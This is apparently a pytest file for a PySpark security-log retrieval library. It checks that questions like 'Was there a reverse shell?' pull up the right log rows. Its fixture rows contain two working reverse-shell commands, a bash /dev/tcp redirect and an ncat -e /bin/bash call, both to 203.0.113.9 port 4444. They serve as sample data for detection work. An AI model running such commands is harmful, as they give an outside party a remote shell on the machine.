"""Rows that a question may rest on."""

from pyspark.sql import functions as F

from tidelog.logframe import LogFrame
from tidelog.operators.adaptive import answering, retrieve, trade_terms, words

FIELDS = ("event_type", "username", "source_ip", "process_name", "command", "destination_port", "message")


def frame(spark, rows):
    df = spark.createDataFrame([(k, *r) for k, r in enumerate(rows)], "pos long, " + ", ".join(f"{f} string" for f in FIELDS)).withColumn("ts", F.lit(None).cast("timestamp"))
    return LogFrame(df, FIELDS)


ROWS = [
    ("exec", "bob", "10.0.0.5", "bash", "bash -i >& /dev/tcp/203.0.113.9/4444", "4444", "outbound"),
    ("exec", "bob", "10.0.0.5", "ncat", "ncat 203.0.113.9 4444 -e /bin/bash -i /dev/tcp", "4444", "outbound socat"),
    ("exec", "amy", "10.0.0.6", "ls", "ls", None, "routine"),
    ("login", "bob", "10.0.0.7", None, None, None, "opened"),
    ("login", "eve", "10.0.0.7", None, None, None, "opened"),
    (None,) * 7,
]


def test_best_rows_and_what_shares_an_entity(spark):
    log = frame(spark, ROWS)
    assert trade_terms("Was there a reverse shell?")[:2] == ["/dev/tcp", "ncat"] and words("Which port did the shell use.") == ["port", "shell", "use"]
    assert list(answering(log, "Which destination port?"))[0] == "destination_port"
    got = {r.pos: (r.hop, r.score) for r in retrieve(log, "reverse shell", hops=2).collect()}
    assert {p for p, (hop, _) in got.items() if hop == 0} <= {0, 1} and all(s >= 1 for _, s in got.values())
    two = retrieve(log, "Which port did bob use?", hops=1).collect()
    assert {r.pos for r in two if r.hop == 0} == {0, 1} and {r.pos: r.score >= 1 for r in two if r.hop == 1} == {3: True}
    assert {r.pos: r.hop for r in retrieve(log, "Which port did bob use?", hops=2).collect()} == {0: 0, 1: 0, 3: 1, 4: 2}
    assert [r.pos for r in retrieve(log, "Which port did bob use?", most=1).collect()] == [0]


def test_nothing_found(spark):
    assert retrieve(frame(spark, ROWS), "zzz").count() == 0
    assert retrieve(frame(spark, ROWS), "").count() == 0
    assert retrieve(frame(spark, ROWS[:0]), "Which port did bob use?").count() == 0
    lone = retrieve(frame(spark, ROWS), "routine").collect()
    assert [(r.pos, r.score) for r in lone] == [(2, 40 + 4 + 7)]
